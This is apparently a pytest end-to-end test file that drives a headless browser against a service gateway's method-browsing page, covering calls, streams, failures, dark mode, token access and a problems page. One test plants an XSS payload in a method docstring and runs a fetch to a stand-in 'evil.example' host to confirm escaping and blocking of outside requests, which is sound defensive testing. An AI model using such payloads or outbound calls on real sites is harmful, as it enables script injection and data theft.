"""The page to try methods, in a headless Chromium."""

from __future__ import annotations

import re
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from tests.gateway.rig import Held, listening
from tests.gateway.test_users import TOKEN, users
from tests.support.browser import CHROMIUM, Page, browsing
from tests.typed.shop import Shop

import requite
from requite.access.tokens import hash_token

pytestmark = [
    pytest.mark.e2e,
    pytest.mark.slow,
    pytest.mark.skipif(not CHROMIUM, reason="there is no chromium"),
]

METHOD = "[...document.querySelectorAll('details')].find(e => e.textContent.includes('{}'))"


@pytest.fixture
async def page(tmp_path: Path) -> AsyncIterator[Page]:
    async with browsing(tmp_path) as page:
        yield page
        assert page.complaints == []


async def send(page: Page, address: str, body: str) -> str:
    """Send a request with the form of a method; return the status when it has one."""
    method = METHOD.format(address)
    await page.run(f"{method}.open = true")
    await page.run(f"{method}.querySelector('textarea').value = {body!r}")
    await page.run(f"{method}.querySelector('.send').click()")
    await page.until(f"/ms|stopped/.test({method}.querySelector('.status').textContent)")
    await page.until(f"!{method}.querySelector('.send').disabled")
    return await text(page, address, ".status")


async def text(page: Page, address: str, selector: str) -> str:
    found: str = await page.run(f"{METHOD.format(address)}.querySelector('{selector}').textContent")
    return found


async def test_methods_are_listed_and_called(page: Page) -> None:
    async with listening(Shop().service) as door:
        await page.open(door.server.url)
        await page.until("document.querySelector('details')")
        assert await page.run("document.querySelector('h2').textContent") == "orders, version 1.0"
        assert await text(page, "orders.price", ".types") == (
            "takes Order, returns Quote, refuses with OutOfStock, Closed"
        )
        filled = await page.run(f"{METHOD.format('orders.price')}.querySelector('textarea').value")
        assert re.sub(r"\s", "", filled) == '{"sku":"","count":1}'
        assert (await send(page, "orders.price", '{"sku": "a", "count": 3}')).startswith("200 OK")
        assert '"price": "1.5"' in await text(page, "orders.price", ".reply")
        streamed = await send(page, "orders.watch", '{"sku": "a", "count": 2}')
        assert streamed.startswith("200 OK")
        assert await text(page, "orders.watch", ".reply") == '{"price":"0"}\n{"price":"1"}\n'
        # Nothing comes from another host.
        assert {url.rpartition("/")[0] for url in page.requested} <= {door.server.url}


async def test_a_failure_and_a_stopped_stream_are_shown(page: Page) -> None:
    held = Held()
    async with listening(Shop().service, held.service) as door:
        await page.open(door.server.url)
        await page.until("document.querySelector('details')")
        assert (await send(page, "orders.price", '{"sku": "none", "count": 3}')).startswith("422 ")
        assert '"left": 3' in await text(page, "orders.price", ".reply")
        tick = METHOD.format("held.tick")
        await page.run(f'{tick}.querySelector(\'textarea\').value = \'{{"sku": "", "count": 1}}\'')
        await page.run(f"{tick}.querySelector('.send').click()")
        await page.until(f"{tick}.querySelector('.reply').textContent == '0\\n'")
        await page.run(f"{tick}.querySelector('.stop').click()")
        assert await held.cancelled.get() == "tick"
        await page.until(f"{tick}.querySelector('.status').textContent == 'stopped'")
        page.complaints.clear()  # the browser counts the answer 422 as an error


async def test_texts_of_a_service_are_no_code(page: Page) -> None:
    shop = requite.Service("shop")

    async def price(order: str) -> str:
        raise NotImplementedError

    price.__doc__ = "<img src=x onerror=alert(1)><script>document.title='evil'</script>"
    shop.method(price)
    async with listening(shop) as door:
        await page.open(door.server.url)
        await page.until("document.querySelector('details')")
        assert "<img" in await text(page, "shop.price", ".doc")
        assert await page.run("document.images.length + document.scripts.length") == 1
        evil = "fetch('https://evil.example/').then(() => 'sent', () => 'refused')"
        assert await page.run(evil) == "refused"
        page.complaints.clear()


@pytest.mark.parametrize("dark", [False, True])
async def test_it_fits_a_phone_and_the_night(page: Page, dark: bool) -> None:
    async with listening(Shop().service) as door:
        await page.open(door.server.url, 390, dark=dark)
        await page.until("document.querySelector('details')")
        await send(page, "orders.price", '{"sku": "a", "count": 3}')
        assert await page.run("document.documentElement.scrollWidth") <= 390
        colours = "getComputedStyle(document.body)"
        paper = await page.run(f"{colours}.backgroundColor")
        assert paper == ("rgb(20, 23, 26)" if dark else "rgb(255, 255, 255)")
        await page.resize(320)
        assert await page.run("document.documentElement.scrollWidth") <= 320


async def test_a_token_shows_what_its_user_may_call(page: Page, tmp_path: Path) -> None:
    file = users(tmp_path, f'[user.a]\ntoken = "{hash_token(TOKEN)}"\ncall = ["orders.p*"]\n')
    async with listening(Shop().service, access=file) as door:
        await page.open(door.server.url)
        await page.until("document.querySelector('#state')?.textContent.includes('token')")
        await page.run(f"document.querySelector('#token').value = '{TOKEN}'")
        await page.run("document.querySelector('#who button').click()")
        await page.until("document.querySelector('details')")
        shown = await page.run("[...document.querySelectorAll('.address')].map(e => e.textContent)")
        assert shown == ["orders.price", "orders.ping"]
        assert (await send(page, "orders.price", '{"sku": "a", "count": 3}')).startswith("200 OK")
        page.complaints.clear()  # the browser counts the answer 401 as an error


async def test_the_page_of_problems(page: Page) -> None:
    async with listening(Shop().service) as door:
        await page.open(f"{door.server.url}/problems#CallTimeout")
        await page.until("document.querySelector(':target')")
        assert "504" in await page.run("document.querySelector(':target').textContent")
